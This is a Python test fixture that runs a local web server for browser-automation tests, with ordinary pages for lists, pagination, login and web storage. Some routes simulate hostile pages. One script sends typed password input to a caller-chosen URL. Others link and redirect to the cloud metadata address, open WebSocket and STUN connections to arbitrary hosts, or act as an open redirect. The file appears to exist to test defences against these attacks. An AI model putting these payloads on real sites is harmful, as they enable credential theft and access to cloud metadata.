"""A small web site on 127.0.0.1 for the browser tests, with counters the tests read.

Pages: ``/list`` (articles with links and prices), ``/late`` (the list appears 300 ms after
load), ``/pages?p=N`` (three pages joined by ``a.next``), ``/login`` and ``/protected`` (a
cookie-based login; the protected page redirects to ``/login`` without a valid cookie),
``/slow`` (counts requests in flight), ``/crash`` (the first request hangs for a while),
``/storage/set`` and ``/storage/read`` (cookies and web storage), ``/busy`` (HTTP 503),
``/form`` (inputs that
report their values), ``/to-metadata`` (a link to
the cloud metadata address) and ``/redirect-metadata`` (a redirect to it).

Pages a hostile document or page would use (``to`` is a URL on another host): ``/redirect?to=``
(a 302), ``/image?to=`` (an image whose URL redirects there), ``/socket?to=`` (opens a
WebSocket there; ``#state`` says ``done`` once it has opened or failed) and ``/leak?to=`` (a
password field whose script sends what is typed to ``to``; ``#state`` says ``sent``) and
``/rtc?to=HOST:PORT`` (a WebRTC peer connection asking that STUN server; ``#state`` says
``done`` after 1.5 s).
"""

from __future__ import annotations

import secrets
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, quote, urlsplit

USER = "alice-portal"
PASSWORD = "correct horse battery staple"
ARTICLES = [
    ("First story", "/a/1", "1.50"),
    ("Second story", "/a/2", "2.00"),
    ("Third story", "/a/3", "3.25"),
]
PAGE_ITEMS = {1: ["p1-a", "p1-b"], 2: ["p2-a", "p2-b"], 3: ["p3-a"]}
SECRET_ITEMS = ["members only 1", "members only 2"]
SLOW_SECONDS = 0.25
FORM = """
<input id="q"><input id="typed">
<select id="size"><option value="s">Small</option><option value="l">Large</option></select>
<input type="checkbox" id="agree"><button id="go">Go</button><p id="out"></p>
<div style="height: 3000px"></div><p id="bottom">bottom</p>
<script>
  const $ = (selector) => document.querySelector(selector);
  $('#typed').addEventListener('keydown', (event) => {
    if (event.key === 'Enter') $('#out').dataset.enter = 'yes';
  });
  $('#go').addEventListener('click', () => {
    $('#out').textContent = JSON.stringify(
      [$('#q').value, $('#typed').value, $('#size').value, $('#agree').checked,
       $('#out').dataset.enter || 'no']);
  });
</script>
"""
CRASH_HOLD_SECONDS = 4.0


@dataclass
class SiteState:
    """What the tests read back: counters and what the login form received."""

    login_posts: int = 0
    posted: list[dict[str, str]] = field(default_factory=list)
    sessions: set[str] = field(default_factory=set)
    slow_in_flight: int = 0
    slow_max_in_flight: int = 0
    slow_requests: int = 0
    crash_requests: int = 0
    crash_arrived: threading.Event = field(default_factory=threading.Event)
    lock: threading.Lock = field(default_factory=threading.Lock)


def _page(title: str, body: str) -> str:
    return f"<!doctype html><html><head><title>{title}</title></head><body>{body}</body></html>"


def _articles() -> str:
    items = "".join(
        f'<li class="article"><h2>{title}</h2><a href="{href}">read</a>'
        f'<span class="price">{price}</span></li>'
        for title, href, price in ARTICLES
    )
    return f'<ul class="article-list">{items}</ul>'


class _Handler(BaseHTTPRequestHandler):
    server: _Server

    def log_message(self, format: str, *args: object) -> None:  # quiet
        pass

    def _send(self, status: int, body: str = "", headers: dict[str, str] | None = None) -> None:
        data = body.encode()
        self.send_response(status)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(data)))
        for name, value in (headers or {}).items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(data)

    def _cookie(self, name: str) -> str | None:
        for part in (self.headers.get("Cookie") or "").split(";"):
            key, _, value = part.strip().partition("=")
            if key == name:
                return value
        return None

    def do_GET(self) -> None:
        state = self.server.state
        url = urlsplit(self.path)
        query = parse_qs(url.query)
        path = url.path
        if path == "/list":
            self._send(200, _page("Articles", _articles()))
        elif path == "/late":
            script = (
                "<script>setTimeout(() => { document.querySelector('#box').innerHTML = "
                f"{_articles()!r}; }}, 300);</script>"
            )
            self._send(200, _page("Late", f'<div id="box"></div>{script}'))
        elif path == "/pages":
            number = int(query.get("p", ["1"])[0])
            items = "".join(f'<li class="item">{text}</li>' for text in PAGE_ITEMS[number])
            link = f'<a class="next" href="/pages?p={number + 1}">next</a>' if number < 3 else ""
            self._send(200, _page(f"Page {number}", f"<ul>{items}</ul>{link}"))
        elif path == "/login":
            form = (
                '<form method="post" action="/login">'
                '<input id="user" name="user"><input id="password" name="password" '
                'type="password"><button type="submit">Log in</button></form>'
            )
            self._send(200, _page("Log in", form))
        elif path == "/protected":
            if self._cookie("sid") not in state.sessions:
                self._send(302, headers={"Location": "/login"})
                return
            items = "".join(f'<li class="secret">{text}</li>' for text in SECRET_ITEMS)
            body = f'<ul>{items}</ul><a class="logout" href="/logout">log out</a>'
            self._send(200, _page("Members", body))
        elif path == "/slow":
            with state.lock:
                state.slow_requests += 1
                state.slow_in_flight += 1
                state.slow_max_in_flight = max(state.slow_max_in_flight, state.slow_in_flight)
            try:
                time.sleep(SLOW_SECONDS)
                self._send(200, _page("Slow", '<p class="done">done</p>'))
            finally:
                with state.lock:
                    state.slow_in_flight -= 1
        elif path == "/crash":
            with state.lock:
                state.crash_requests += 1
                first = state.crash_requests == 1
            if first:
                state.crash_arrived.set()
                time.sleep(CRASH_HOLD_SECONDS)
            self._send(200, _page("Survived", '<p class="done">survived</p>'))
        elif path == "/storage/set":
            script = (
                "<script>localStorage.setItem('kept', 'local'); "
                "sessionStorage.setItem('kept', 'session');</script>"
            )
            body = f'<p class="done">set</p>{script}'
            self._send(200, _page("Set", body), {"Set-Cookie": "tracker=1; Path=/"})
        elif path == "/storage/read":
            script = (
                "<script>document.querySelector('#seen').textContent = JSON.stringify(["
                "document.cookie, localStorage.getItem('kept'), "
                "sessionStorage.getItem('kept')]);</script>"
            )
            self._send(200, _page("Read", f'<p id="seen"></p>{script}'))
        elif path == "/to-metadata":
            link = '<a id="go" href="http://169.254.169.254/latest/meta-data/">metadata</a>'
            image = '<img src="http://169.254.169.254/pixel.png">'
            self._send(200, _page("Links", link + image))
        elif path == "/busy":
            self._send(503, _page("Busy", "<p>try later</p>"), {"Retry-After": "7"})
        elif path == "/form":
            self._send(200, _page("Form", FORM))
        elif path == "/redirect":
            self._send(302, headers={"Location": query["to"][0]})
        elif path == "/image":
            image = f'<img src="/redirect?to={quote(query["to"][0], safe="")}">'
            self._send(200, _page("Image", image + '<p id="state">image</p>'))
        elif path == "/socket":
            script = (
                f"<script>const socket = new WebSocket({query['to'][0]!r}); const done = () => "
                "{ document.querySelector('#state').textContent = 'done'; }; "
                "socket.onopen = done; socket.onerror = done; socket.onclose = done;</script>"
            )
            self._send(200, _page("Socket", '<p id="state">opening</p>' + script))
        elif path == "/leak":
            script = (
                "<script>document.querySelector('#pw').addEventListener('input', (event) => {"
                f"const to = {query['to'][0]!r} + encodeURIComponent(event.target.value); "
                "fetch(to, {mode: 'no-cors'}).catch(() => null); new Image().src = to; "
                "document.querySelector('#state').textContent = 'sent'; });</script>"
            )
            body = '<input id="pw" type="password"><p id="state">waiting</p>'
            self._send(200, _page("Leak", body + script))
        elif path == "/rtc":
            script = (
                f"<script>const peer = new RTCPeerConnection({{iceServers: [{{urls: "
                f"'stun:{query['to'][0]}'}}]}}); peer.createDataChannel('x'); "
                "peer.createOffer().then((offer) => peer.setLocalDescription(offer)); "
                "setTimeout(() => { document.querySelector('#state').textContent = 'done'; }, "
                "1500);</script>"
            )
            self._send(200, _page("RTC", '<p id="state">gathering</p>' + script))
        elif path == "/redirect-metadata":
            self._send(302, headers={"Location": "http://169.254.169.254/latest/meta-data/"})
        else:
            self._send(404, _page("Not found", "<p>not found</p>"))

    def do_POST(self) -> None:
        state = self.server.state
        if urlsplit(self.path).path != "/login":
            self._send(404)
            return
        length = int(self.headers.get("Content-Length") or 0)
        form = {
            key: values[0] for key, values in parse_qs(self.rfile.read(length).decode()).items()
        }
        with state.lock:
            state.login_posts += 1
            state.posted.append(form)
        if form.get("user") == USER and form.get("password") == PASSWORD:
            token = secrets.token_hex(8)
            state.sessions.add(token)
            headers = {"Location": "/protected", "Set-Cookie": f"sid={token}; Path=/; HttpOnly"}
            self._send(303, headers=headers)
        else:
            self._send(200, _page("Log in", "<p>wrong credentials</p>"))


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    state: SiteState


@contextmanager
def serve_site() -> Iterator[tuple[str, SiteState]]:
    """Serve the site on a free port; yields its base URL and its state."""
    server = _Server(("127.0.0.1", 0), _Handler)
    server.state = SiteState()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", server.state
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)
